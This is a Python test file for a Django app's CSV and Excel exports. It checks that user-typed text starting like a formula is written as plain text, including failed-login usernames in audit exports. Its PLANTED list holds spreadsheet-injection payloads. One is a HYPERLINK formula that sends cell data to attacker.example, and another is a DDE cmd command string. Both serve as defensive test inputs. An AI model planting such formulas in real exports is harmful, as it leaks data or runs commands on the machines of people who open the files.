"""Every CSV/XLSX cell a user typed is written as text, never as a formula (core/exports.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from conftest import login
from core.exports import csv_row, csv_text, xlsx_row, xlsx_set

PLANTED = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", PLANTED)
def test_csv_text_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_text(text) == "'" + text


def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
    assert csv_row(["Kế hoạch 2026", 42, None, "a=b"]) == ["Kế hoạch 2026", 42, None, "a=b"]


@pytest.mark.parametrize("text", PLANTED)
def test_xlsx_formula_like_text_is_a_string_cell_with_quote_prefix(text: str) -> None:
    book = Workbook()
    assert book.active is not None
    cell = xlsx_set(book.active["A1"], text)
    assert cell.data_type == "s"
    assert cell.quotePrefix
    buffer = io.BytesIO()
    book.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]["A1"]
    assert reread.data_type == "s"
    assert reread.value == text  # kept as written (tab and CR are legal in xlsx)


def test_xlsx_write_only_rows_keep_numbers_and_drop_control_characters() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append(xlsx_row(sheet, ["=1+1", 7, "Bảng\x07 kê"]))
    buffer = io.BytesIO()
    book.save(buffer)
    values = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
    assert [c.data_type for c in values] == ["s", "n", "s"]
    assert [c.value for c in values] == ["=1+1", 7, "Bảng kê"]


def test_failed_sign_in_username_is_text_in_the_audit_exports(client: Client, sysadmin) -> None:  # type: ignore[no-untyped-def]
    """Anyone can type a formula as a username at the sign-in page without an account."""
    planted = PLANTED[0].lower()  # the sign-in form lower-cases usernames; the formula still works
    client.post("/auth/login/", {"login": planted, "password": "khongdung"})
    login(client, sysadmin)

    body = client.get("/audit/export.csv?action=auth.login_failed").getvalue().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + planted in cells
    assert planted not in cells  # never a bare formula

    sheet = load_workbook(io.BytesIO(client.get("/audit/export.xlsx?action=auth.login_failed").content)).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == planted]
    assert found, "the planted username is in the workbook"
    assert all(c.data_type == "s" for c in found)


def test_every_module_that_writes_a_spreadsheet_uses_the_safe_cell_writer() -> None:
    """Now and later: any module that builds a workbook or a CSV writer goes through core.exports,
    directly or through the shared workbook layout (core.xlsx_layout, which writes every cell with it)."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    skip = {".venv", ".tools", "tests", "bench", "migrations", "node_modules", "var"}
    writers = []
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if (
            skip & set(parts)
            or parts[0].startswith(".")
            or path.name in ("exports.py", "xlsx_layout.py")
            and parts[0] == "core"
        ):
            continue
        if path.name == "demo.py":  # demo files built from fixed sample text: nothing a user typed
            continue
        source = path.read_text(encoding="utf-8")
        if "Workbook(" not in source and "csv.writer(" not in source and "DictWriter(" not in source:
            continue
        tree = ast.parse(source)
        imports_helper = any(
            isinstance(node, ast.ImportFrom)
            and (
                node.module == "core.exports"
                or node.module == "core"
                and any(a.name == "xlsx_layout" for a in node.names)
            )
            for node in ast.walk(tree)
        )
        writers.append(str(path.relative_to(root)))
        assert imports_helper, f"{path.relative_to(root)} writes a spreadsheet without core.exports"
    assert {"audit/export.py", "live/contributions.py", "opinions/export.py"} <= set(writers)
